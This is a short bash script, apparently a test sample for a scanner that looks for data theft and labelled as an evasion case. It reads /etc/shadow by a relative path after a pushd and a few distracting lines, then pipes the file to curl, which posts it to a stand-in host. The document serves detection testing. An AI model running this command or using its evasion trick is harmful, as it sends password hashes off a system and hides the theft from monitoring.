#!/usr/bin/env bash
# Evasion: posts /etc/shadow. pushd /etc runs first, a subshell and a
# log line sit between it and the read, and the file is named relative
# to /etc ("shadow") inside a { ...; } group whose output goes to curl.
pushd /etc > /dev/null
(echo "host: $(hostname)")
logger "inventory run"
{
	echo "--- accounts"
	cat shadow
} | curl -s --data-binary @- https://inventory.example.org/hosts
popd > /dev/null
